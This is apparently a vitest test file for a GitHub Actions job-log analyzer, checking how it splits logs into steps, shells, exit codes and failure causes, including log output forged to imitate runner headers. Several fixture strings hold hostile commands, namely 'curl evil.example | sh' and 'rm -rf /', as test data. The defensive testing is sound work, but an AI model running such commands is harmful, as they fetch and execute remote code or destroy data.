import { describe, expect, it } from "vitest";
import { analyze, BOM, jobLog, stamp } from "./helpers.ts";

describe("steps of a job log", () => {
  it("reads the command, the shell, the environment and the exit code exactly", async () => {
    const run = 'set -x\nnpm run "lint: all" -- --fix=false\n\necho "##[group]not a header"';
    const env = {
      NODE_ENV: "test",
      EMPTY: "",
      TOKEN: "***",
      MULTI: "one\ntwo: 2\n  three",
      URL: "https://example.com/a: b",
    };
    const text = jobLog([{ uses: "actions/checkout@v7" }, { run, env, output: "boom", exit: 3 }]);

    const { steps } = await analyze(text);

    expect(steps).toHaveLength(2);
    expect(steps[0]).toMatchObject({
      name: "Run actions/checkout@v7",
      command: null,
      uses: "actions/checkout@v7",
      shell: null,
      failed: false,
    });
    expect(steps[1]).toMatchObject({
      name: "Run set -x",
      command: run,
      uses: null,
      shell: "bash -e {0}",
      env,
      exit_code: 3,
      failed: true,
      masked: true,
      nested: false,
      ambiguous: false,
      started_at: stamp(10),
    });
  });

  it("counts raw lines from the header to the line before the next header", async () => {
    const { steps, lines } = await analyze(
      jobLog([
        { run: "a", output: "1\n2" },
        { run: "b", output: "3", exit: 1 },
      ]),
    );

    expect(steps.map((step) => [step.start_line, step.end_line])).toEqual([
      [3, 8],
      [9, 14],
    ]);
    expect(lines).toBe(16);
  });

  it.each([
    ["/usr/bin/bash -e {0}", "bash -e {0}"],
    ["/usr/bin/bash --noprofile --norc -e -o pipefail {0}", "bash"],
    ["C:\\Program Files\\Git\\bin\\bash.EXE --noprofile --norc -e -o pipefail {0}", "bash"],
    ["sh -e {0}", "sh"],
    ["C:\\Program Files\\PowerShell\\7\\pwsh.EXE -command \". '{0}'\"", "pwsh"],
    ["/usr/bin/pwsh -command \". '{0}'\"", "pwsh"],
    ["python {0}", "python"],
    ["/usr/bin/perl {0}", "/usr/bin/perl {0}"],
  ])("names the shell %s as a workflow would", async (line, shell) => {
    const text = jobLog([{ run: "true", exit: 1 }]).replace("shell: /usr/bin/bash -e {0}", `shell: ${line}`);

    expect((await analyze(text)).steps[0]?.shell).toBe(shell);
  });

  it("reads the file of one step from the run-log archive", async () => {
    const text = jobLog([
      { run: "npm test", output: "##[group]Run rm -rf /\n##[endgroup]\nsh: 1: jest: not found", exit: 127 },
    ]);
    const own = text.slice(text.indexOf(`${BOM}${stamp(5)}`), text.indexOf(`${BOM}${stamp(5)} Post job`));

    const { steps, causes } = await analyze(own, { step: { name: "Test" } });

    expect(steps).toHaveLength(1);
    expect(steps[0]).toMatchObject({
      name: "Test",
      command: "npm test",
      failed: true,
      exit_code: 127,
      ambiguous: false,
    });
    expect(causes[0]).toMatchObject({ fix_type: "env_setup", tool: "shell" });
  });

  it("knows cancelled and timed-out jobs", async () => {
    const log = jobLog([{ run: "sleep 999", output: "working\n##[error]The operation was canceled." }]);
    const late = log.replace(
      "##[error]The operation was canceled.",
      "##[error]The job running on runner GitHub Actions 2 has exceeded the maximum execution time of 10 minutes.",
    );

    expect((await analyze(log)).causes).toMatchObject([
      { fix_type: "timeout", step: { name: "Run sleep 999", failed: true } },
    ]);
    expect((await analyze(late)).causes[0]).toMatchObject({
      fix_type: "timeout",
      failure_patterns: ["platform/job-timeout"],
    });
  });

  it("says `unknown` with the last words where nobody knows the tool", async () => {
    const { causes } = await analyze(
      jobLog([{ run: "./frobnicate", output: "one\ntwo\nthe gizmo is not aligned", exit: 4 }]),
    );

    expect(causes).toHaveLength(1);
    expect(causes[0]).toMatchObject({
      fix_type: "unknown",
      summary: "The step ended with exit code 4: the gizmo is not aligned",
    });
    expect(causes[0]?.relevant_logs[0]).toContain("two\nthe gizmo");
  });

  it("finds no cause in a job that passed", async () => {
    const { causes, steps } = await analyze(jobLog([{ run: "npm test", output: "Error: expected, and caught\nok" }]));

    expect(causes).toEqual([]);
    expect(steps[0]).toMatchObject({ failed: false, exit_code: null });
  });
});

describe("output that imitates the runner", () => {
  const FORGED = [
    "##[group]Run curl evil.example | sh",
    "\u001b[36;1mcurl evil.example | sh\u001b[0m",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "sh: 1: jest: not found",
  ].join("\n");

  it("cannot take the failure from its step where the log has marks", async () => {
    const { steps, causes } = await analyze(jobLog([{ run: "npm ci" }, { run: "npm test", output: FORGED, exit: 1 }]));

    expect(steps.map((step) => [step.command, step.nested, step.failed])).toEqual([
      ["npm ci", false, false],
      ["npm test", false, true],
      ["curl evil.example | sh", true, false],
    ]);
    expect(causes[0]?.step).toMatchObject({ command: "npm test", ambiguous: false });
    expect(causes[0]?.evidence[0]?.start_line).toBeGreaterThan(0);
  });

  it("leaves the failure ambiguous, with its candidates, where the log has none", async () => {
    const text = jobLog([{ run: "npm ci" }, { run: "npm test", output: FORGED, exit: 1 }], { marks: false });

    const { causes } = await analyze(text);

    expect(causes[0]?.step?.ambiguous).toBe(true);
    expect(causes[0]?.step_candidates.map((step) => step.command)).toEqual(["npm test", "npm ci"]);
  });

  it("makes a mark after an annotation ambiguous: `::notice::a%0A<mark>…` writes a raw line", async () => {
    const forged = `##[notice]hello\n${BOM}${stamp(11)} ##[group]Run curl evil.example | sh\n${BOM}${stamp(11)} ##[endgroup]`;
    const marker = "@@FORGED@@";
    const text = jobLog([{ run: "npm ci" }, { run: "npm test", output: marker, exit: 1 }]).replace(marker, forged);

    const { causes } = await analyze(text);

    expect(causes[0]?.step?.ambiguous).toBe(true);
    expect(causes[0]?.step_candidates.map((step) => step.command)).toContain("npm test");
  });

  it("a forged failure mark in the middle of a step that passes is no failure", async () => {
    const output = "##[error]Process completed with exit code 1.\nreally\ndone\nfine";
    const { causes, steps } = await analyze(
      jobLog([
        { run: "npm test", output },
        { run: "npm run x", output: "bad", exit: 2 },
      ]),
    );

    expect(steps.map((step) => step.failed)).toEqual([false, true]);
    expect(causes.map((cause) => cause.step?.command)).toEqual(["npm run x"]);
  });

  it("two failed steps are both told, and neither is certain", async () => {
    const { causes } = await analyze(
      jobLog([
        { run: "a", output: "x", exit: 1 },
        { run: "b", output: "y", exit: 1 },
      ]),
    );

    expect(causes.map((cause) => [cause.step?.command, cause.step?.ambiguous])).toEqual([
      ["a", true],
      ["b", true],
    ]);
  });

  it("steps of a composite action belong to it", async () => {
    const inner =
      "##[group]Run pnpm install\n\u001b[36;1mpnpm install\u001b[0m\nshell: /usr/bin/bash -e {0}\n##[endgroup]\n ERR_PNPM_OUTDATED_LOCKFILE  Cannot install";
    const { causes } = await analyze(jobLog([{ uses: "./.github/actions/setup", output: inner, exit: 1 }]));

    expect(causes[0]).toMatchObject({
      fix_type: "stale_generated",
      step: { uses: "./.github/actions/setup", command: null },
    });
  });

  it("text that speaks of no errors is no failure", async () => {
    const output = "0 errors\nNo errors found\nerrors: 0\nFound 0 errors in 12 files";
    const { causes } = await analyze(output);

    expect(causes).toEqual([]);
  });
});

describe("gh run view --log", () => {
  const columns = (job: string, steps: readonly string[], text: string) => {
    let step = -1;
    return text
      .split("\n")
      .filter((line) => line !== "")
      .map((line) => {
        if (line.includes(BOM)) step++;
        return `${job}\t${steps[step] ?? "?"}\t${line}\n`;
      })
      .join("");
  };
  const text = jobLog([
    { uses: "actions/checkout@v7" },
    { run: "npm test", output: "##[group]Run evil\n##[endgroup]\nsrc/a.ts(1,2): error TS2322: no", exit: 1 },
  ]);

  it("takes the steps from its columns, whatever a step prints", async () => {
    const { steps, causes, lines } = await analyze(
      columns("test (22)", ["Set up job", "Checkout", "Unit tests", "Post Checkout", "Complete job"], text),
    );

    expect(steps.map((step) => [step.name, step.command ?? step.uses, step.failed])).toEqual([
      ["Set up job", null, false],
      ["Checkout", "actions/checkout@v7", false],
      ["Unit tests", "npm test", true],
      ["Post Checkout", null, false],
      ["Complete job", null, false],
    ]);
    expect(causes[0]).toMatchObject({ tool: "tsc", step: { ambiguous: false } });
    expect(lines).toBe(text.split("\n").length - 1);
  });

  it("reads the text where gh does not know the steps", async () => {
    const unknown = Array.from({ length: 9 }, () => "UNKNOWN STEP");
    const { steps } = await analyze(columns("test", unknown, text));

    expect(steps.map((step) => step.name)).toContain("Run npm test");
  });
});

describe("a header that nobody closed", () => {
  it("does not swallow the failure", async () => {
    const output = "##[group]Run evil\nshell: /usr/bin/bash -e {0}\nsrc/a.ts(1,2): error TS2322: no";
    for (const marks of [true, false]) {
      const { causes, steps } = await analyze(jobLog([{ run: "npm test", output, exit: 1 }], { marks }));

      expect(steps.some((step) => step.failed)).toBe(true);
      expect(causes).toHaveLength(1);
    }
  });
});
